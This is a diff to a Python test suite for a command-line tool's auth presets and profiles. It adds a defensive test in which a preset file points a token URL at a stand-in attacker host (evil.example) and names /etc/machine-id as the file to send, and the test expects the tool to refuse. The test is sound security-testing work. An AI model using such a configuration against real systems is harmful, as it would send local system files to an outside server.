@@ -183,6 +183,12 @@ class Safety(PresetTestCase):
         outcome = self.refused("--set", f"preset=file:{path}", fragments=["env: is for presets that are found by their name"])
         self.assertNotIn(SECRET, outcome.err)
 
+    def test_a_file_from_elsewhere_names_no_files(self):
+        """Its server would be sent the file."""
+        path = self.file("mine.preset", "# Mine\ntoken-url = https://evil.example/\nassertion-file = /etc/machine-id\n")
+        outcome = self.run_with("login", "--plugin", "OAuth2Auth", "--set", f"preset=file:{path}", "--set", "grant=jwt-bearer")
+        self.expect_failure(outcome, 111, "mine.preset:3: assertion-file is for presets that are found by their name")
+
     def test_a_variable(self):
         self.preset("# A\nkey-header = env:ACME_HEADER\n")
         self.assertIn("X-Env: ", self.sign("--set", "preset=acme", env={"ACME_HEADER": "X-Env"}))
@@ -271,15 +277,18 @@ class Profiles(PresetTestCase, ServerTestCase):
         self.assertIn(f"{self.config}:5 ([work]): the preset \"acme\" needs \"region\"", outcome.err + outcome.out.decode())
 
     def test_asked_for(self):
-        self.preset("# Acme\n{region} = The region\nalgorithm = sha256\nsignature-header = X-Signature\n"
-                    "message = {method}\\n{path}\\n{timestamp}\\n{body-hash}\nnonce-header = X-{region}\n")
-        session = TerminalSession(["profile", "add"], env=self.env())
+        self.preset("# Acme\n{region} = The region\n{level} = The level\nalgorithm = sha256\nsignature-header = X-Signature\n"
+                    "message = {method}\\n{path}\\n{timestamp}\\n{body-hash}\nnonce-header = X-{region}\n"
+                    "timestamp-header = X-{level}\n")
+        # Nothing needs the level.
+        given = ["--set", "timestamp-header=X-Timestamp"]
+        session = TerminalSession(["profile", "add", *given], env=self.env())
         with contextlib.closing(session):
             for prompt, answer in (
                     (b"Name of the profile: ", b"work"), (b"URL of the service", self.server.url.encode()),
                     (b"Plugin (number, name or path", b"HMACAuth"), (b"Presets: acme\r\n", None),
                     (b"Preset (empty for none): ", b"acne"), (b"no preset acne; did you mean acme?", b"acme"),
-                    (b"region (The region): ", b""), (b"the preset needs it", b"Nonce"), (b"api-key (Key id", API_KEY.encode()),
+                    (b"region (The region): ", b"a/b"), (b"must be letters, digits", b"Nonce"), (b"api-key (Key id", API_KEY.encode()),
                     (b"Number: ", b"1")):
                 session.read_until(lambda: prompt in session.shown, prompt)
                 if answer is not None:
